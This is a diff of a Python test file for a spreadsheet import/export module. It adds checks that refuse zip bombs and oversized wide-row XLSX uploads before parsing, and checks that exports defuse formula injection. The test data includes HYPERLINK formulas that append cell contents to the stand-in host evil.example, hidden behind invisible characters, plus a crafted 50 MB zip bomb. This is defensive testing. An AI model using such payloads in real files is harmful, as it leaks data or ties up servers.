@@ -8,13 +8,16 @@ import random
 import time
 import zipfile
 from datetime import date, datetime, timedelta
+from functools import partial
 from xml.sax.saxutils import escape
 
 import pytest
 from openpyxl import Workbook, load_workbook
+from openpyxl.utils import get_column_letter
 
-from expert_pool import normalize, tabular
-from expert_pool.tabular import COLUMNS, COLUMNS_BY_KEY, REQUIRED_COLUMNS, TableError, read_table
+from expert_pool.rules import normalize, tabular
+from expert_pool.rules.tabular import COLUMNS, COLUMNS_BY_KEY, REQUIRED_COLUMNS, TableError, read_table
+from expert_pool.rules.tabular import xlsx as tabular_xlsx
 
 KEYS = [c.key for c in COLUMNS]
 ZH_HEADER = [c.zh for c in COLUMNS]
@@ -95,7 +98,7 @@ def excel_like_xlsx(sheets: list[tuple[str, list[list[object] | None]]], *, date
                 continue
             out.append(f'<row r="{r}">')
             for c, v in enumerate(row):
-                ref = f"{tabular.get_column_letter(c + 1)}{r}"
+                ref = f"{get_column_letter(c + 1)}{r}"
                 if v is None:
                     continue
                 if isinstance(v, bool):
@@ -159,7 +162,7 @@ def excel_like_xlsx(sheets: list[tuple[str, list[list[object] | None]]], *, date
     ("Recommended by", "recommended_by"), ("Term start", "term_start"), ("语言", "language"),
 ])
 def test_header_aliases(header, key):
-    assert tabular._HEADERS.get(tabular.header_key(header)) == key
+    assert tabular.HEADERS.get(tabular.header_key(header)) == key
 
 
 def test_required_columns():
@@ -366,7 +369,7 @@ def test_write_xlsx_neutralises_formulas_and_formats_the_sheet():
     assert city.value == "'@cmd" and (org.value, org.data_type) == (-5, "n")  # numbers are not mangled
     assert ws.cell(2, KEYS.index("term_start") + 1).value == datetime(2024, 1, 1)
     assert ws.cell(2, KEYS.index("term_start") + 1).number_format == "yyyy-mm-dd"
-    widths = [ws.column_dimensions[tabular.get_column_letter(i + 1)].width for i in range(len(KEYS))]
+    widths = [ws.column_dimensions[get_column_letter(i + 1)].width for i in range(len(KEYS))]
     assert all(8 <= w <= 60 for w in widths)
     assert widths[KEYS.index("id_number")] > widths[KEYS.index("gender")]
 
@@ -499,10 +502,98 @@ def test_zip_bomb_is_refused(monkeypatch):
     data = excel_like_xlsx([("Sheet1", [ZH_HEADER] + [[expert(i)[k] for k in KEYS] for i in range(50)])])
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         unpacked = sum(info.file_size for info in zf.infolist())
-    monkeypatch.setattr(tabular, "_XLSX_MAX_XML_BYTES", unpacked)
+    monkeypatch.setattr(tabular_xlsx, "XLSX_MAX_UNPACKED_BYTES", unpacked)
     assert len(read_table(data, "x.xlsx").rows) == 50
-    monkeypatch.setattr(tabular, "_XLSX_MAX_XML_BYTES", unpacked - 1)
+    monkeypatch.setattr(tabular_xlsx, "XLSX_MAX_UNPACKED_BYTES", unpacked - 1)
     assert error_of(data, "x.xlsx").code == "file_too_large"
+
+
+# -- bounds before parsing (red-team item 5) ------------------------------------------------------------------
+
+def wide_row_workbook(cells: int, *, dimension: bool = True, numbered: bool = False) -> bytes:
+    """A workbook whose first sheet has the header and then one row of ``cells`` cells (the red team's 229 KB
+    file had 2,000,000 of them and tied a worker up for 50 s and 2 GB)."""
+    good = zipfile.ZipFile(io.BytesIO(excel_like_xlsx([("Sheet1", [ZH_HEADER])])))
+    files = {name: good.read(name) for name in good.namelist()}
+    body = (b"".join(b'<c r="%s2"><v>1</v></c>' % get_column_letter(1 + i % 16384).encode() for i in range(cells))
+            if numbered else b"<c><v>1</v></c>" * cells)
+    sheet = files["xl/worksheets/sheet1.xml"]
+    if dimension:
+        sheet = sheet.replace(b"<sheetData>", b'<dimension ref="A1:XFD2"/><sheetData>', 1)
+    files["xl/worksheets/sheet1.xml"] = sheet.replace(b"</sheetData>", b'<row r="2">' + body + b"</row></sheetData>")
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, content in files.items():
+            z.writestr(name, content)
+    return buf.getvalue()
+
+
+@pytest.fixture
+def never_parsed(monkeypatch):
+    """Refusals must come before openpyxl sees the file; count what the checks decompress."""
+    read = {"bytes": 0}
+    original = zipfile.ZipExtFile.read
+
+    def counting_read(self, n=-1):
+        out = original(self, n)
+        read["bytes"] += len(out)
+        return out
+
+    def no_parse(*args, **kwargs):
+        raise AssertionError("openpyxl was asked to parse a file the checks should have refused")
+
+    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
+    monkeypatch.setattr(tabular_xlsx, "load_workbook", no_parse)
+    return read
+
+
+def test_a_two_million_cell_row_is_refused_from_the_declared_dimension(never_parsed):
+    data = wide_row_workbook(2_000_000)
+    assert len(data) < 1_000_000  # small on the wire ...
+    never_parsed["bytes"] = 0
+    err = error_of(data, "x.xlsx")
+    assert err.code in ("too_many_columns", "file_too_large")  # ... refused by its dimension or its ratio
+    assert never_parsed["bytes"] <= 2 * tabular_xlsx._SCAN_CHUNK  # a prefix at most, never the 30 MB of XML
+
+
+def test_a_wide_row_without_a_dimension_is_refused_at_its_65th_cell(never_parsed, monkeypatch):
+    # Ratio check aside (random-looking XML compresses less), the cell count stops at the first wide row.
+    monkeypatch.setattr(tabular_xlsx, "XLSX_MAX_RATIO", 10**9)
+    data = wide_row_workbook(2_000_000, dimension=False)
+    never_parsed["bytes"] = 0
+    err = error_of(data, "x.xlsx")
+    assert err.code == "too_many_columns" and "64" in err.message_zh and "64" in err.message_en
+    assert err.details == {"max_columns": tabular_xlsx.XLSX_MAX_COLUMNS}
+    assert never_parsed["bytes"] <= 2 * tabular_xlsx._SCAN_CHUNK
+    # Namespaced tags and numbered cells are counted as well.
+    assert error_of(wide_row_workbook(200, dimension=False, numbered=True), "x.xlsx").code == "too_many_columns"
+
+
+def test_a_zip_bomb_is_refused_from_the_central_directory(never_parsed):
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
+        good = zipfile.ZipFile(io.BytesIO(excel_like_xlsx([("Sheet1", [ZH_HEADER])])))
+        for name in good.namelist():
+            z.writestr(name, good.read(name))
+        z.writestr("xl/media/padding.xml", b" " * 50_000_000)  # 50 MB of nothing, ~50 KB compressed
+    never_parsed["bytes"] = 0
+    err = error_of(bomb.getvalue(), "x.xlsx")
+    assert err.code == "file_too_large"
+    assert never_parsed["bytes"] == 0  # decided from the zip's directory alone
+
+
+def test_too_many_cells_in_all_is_refused_before_parsing(never_parsed):
+    rows = [ZH_HEADER] + [[expert(i)[k] for k in KEYS] for i in range(80)]
+    data = excel_like_xlsx([("Sheet1", rows)])
+    never_parsed["bytes"] = 0
+    err = error_of(data, "x.xlsx", max_rows=10)  # 81 x 17 cells > max(1,000, 11 x 32)
+    assert err.code == "too_many_cells" and err.details["max_cells"] == 1_000
+
+
+def test_honest_workbooks_pass_the_bounds():
+    rows = [ZH_HEADER] + [[expert(i)[k] for k in KEYS] for i in range(50)]
+    assert len(read_table(excel_like_xlsx([("Sheet1", rows)]), "x.xlsx").rows) == 50
+    assert len(read_table(tabular.write_xlsx(KEYS, [expert(i) for i in range(50)], "zh"), "x.xlsx").rows) == 50
 
 
 # -- CSV out ---------------------------------------------------------------------------------------------------
@@ -528,6 +619,44 @@ def test_write_csv_neutralises_formula_injection():
     assert back["name"] == "=1+1" and back["gender"] == "-2"
 
 
+# Every character that can hide in front of a formula: C0 controls, DEL, C1 controls, zero-width space/non-joiner/
+# joiner, word joiner, BOM, soft hyphen, LRM/RLM/ALM, bidi embeddings/overrides/isolates, NBSP, ideographic space,
+# the other Unicode spaces, and plain space, tab, LF and CR.
+HIDERS = ([chr(c) for c in range(0x00, 0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
+          + ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200f", "\u061c",
+             "\u180e", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
+             "\u2069", "\u00a0", "\u3000", "\u2002", "\u2003", "\u2009", "\u202f", "\u205f", " "])
+# All but the visible white space (kept: it may be meant) are removed from exported text.
+STRIPPED = [h for h in HIDERS if h not in "\t\n\r \u00a0\u3000\u2002\u2003\u2009\u202f\u205f"]
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
+PAYLOADS = [h + t + 'HYPERLINK("http://evil.example/?"&A2,"x")' for h in HIDERS for t in TRIGGERS] + [
+    h1 + h2 + "=1+1" for h1 in ("\u0001", "\u200b", "\ufeff", "\u00a0") for h2 in ("\u202e", "\u3000", "\x7f")]
+
+
+def test_exports_neutralise_formulas_behind_every_control_and_invisible_character():
+    # Strip first, neutralise last: "\u0001=HYPERLINK(...)" used to be neutralised (it did not start with "=")
+    # and then lose its "\u0001" in XLSX, leaving a live formula next to unmasked ID numbers.
+    rows = [{"name": p, "city": p, "organization": p, "specialties": [p, "y"]} for p in PAYLOADS]
+    keys = ["name", "city", "organization", "specialties"]
+    read = list(csv.reader(io.StringIO(tabular.write_csv(keys, rows, "zh")[3:].decode(), newline="")))[1:]
+    ws = load_workbook(io.BytesIO(tabular.write_xlsx(keys, rows, "zh"))).active
+    assert len(read) == len(PAYLOADS) == ws.max_row - 1
+    for i, payload in enumerate(PAYLOADS):
+        for j in range(len(keys)):
+            cell = ws.cell(i + 2, j + 1)
+            for where, text in (("csv", read[i][j]), ("xlsx", cell.value)):
+                assert isinstance(text, str) and text.startswith("'"), (where, payload, text)
+                assert not any(ch in text for ch in STRIPPED), (where, payload, text)
+                assert "HYPERLINK(" in text or "=1+1" in text  # the content itself is kept, as text
+            assert cell.data_type == "s", (payload, cell.data_type)  # written as text, never parsed as a formula
+    # Harmless text keeps its characters (line breaks inside a cell stay) and gets no apostrophe.
+    assert tabular.neutralize_cell("南京\n江宁") == "南京\n江宁" and tabular.neutralize_cell("a=1") == "a=1"
+    # ... and an export still reads back as what was stored.
+    header = ",".join(ZH_HEADER).encode()
+    back = read_table(b"\xef\xbb\xbf" + header + b"\r\n'\xc2\xa0=1+1,' -2\r\n", "x.csv").rows[0].values
+    assert back["name"] == "=1+1" and back["gender"] == "-2"
+
+
 def test_write_csv_accepts_rows_and_extra_headers():
     rows = [tabular.Row(2, {"name": "张三"}), {"name": "李四", "id": 7}]
     data = tabular.write_csv(["id", "name"], rows, "en", headers={"id": ("编号", "No.")})
@@ -545,7 +674,7 @@ def test_neutralize_cell(value, expected):
 # -- template ----------------------------------------------------------------------------------------------------
 
 NORMALISERS = {
-    "gender": normalize.normalize_gender, "id_number": normalize.normalize_id_number,
+    "gender": normalize.normalize_gender, "id_number": partial(normalize.normalize_id_number, today=date(2026, 1, 1)),
     "mobile": normalize.normalize_mobile, "email": normalize.normalize_email,
     "organization_type": normalize.normalize_organization_type, "title": normalize.normalize_title_rank,
     "province": normalize.normalize_province, "recommended_by": normalize.normalize_recommended_by,
@@ -563,7 +692,7 @@ def test_template_reads_back_and_its_example_is_valid(lang, fmt):
     example = table.rows[0].values
     for key, fn in NORMALISERS.items():
         fn(example[key])  # raises if the example would not import
-    info = normalize.validate_id_number(example["id_number"])
+    info = normalize.validate_id_number(example["id_number"], today=date(2026, 1, 1))
     assert str(info.birth_date.year) == example["birth_year"] and info.gender == "F"
     assert normalize.normalize_gender(example["gender"]) == "F"
     assert normalize.province_name(info.province_code, lang).startswith(example["province"])
@@ -582,10 +711,10 @@ def test_xlsx_template_has_instructions_text_columns_and_dropdowns(lang):
     assert data.title == ("专家" if lang == "zh" else "Experts")
     assert info.title == ("说明" if lang == "zh" else "Instructions")
     assert data.freeze_panes == "A2"
-    id_col = tabular.get_column_letter(KEYS.index("id_number") + 1)
+    id_col = get_column_letter(KEYS.index("id_number") + 1)
     assert data.column_dimensions[id_col].number_format == "@" and data[f"{id_col}2"].number_format == "@"
     listed = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in data.data_validations.dataValidation}
-    gender_col = tabular.get_column_letter(KEYS.index("gender") + 1)
+    gender_col = get_column_letter(KEYS.index("gender") + 1)
     assert listed[f"{gender_col}2"] == ('"男,女"' if lang == "zh" else '"M,F"')
     assert len(listed) == 6 and all(len(f) <= 255 for f in listed.values())  # Excel's limit for a list
     rows = list(info.iter_rows(values_only=True))
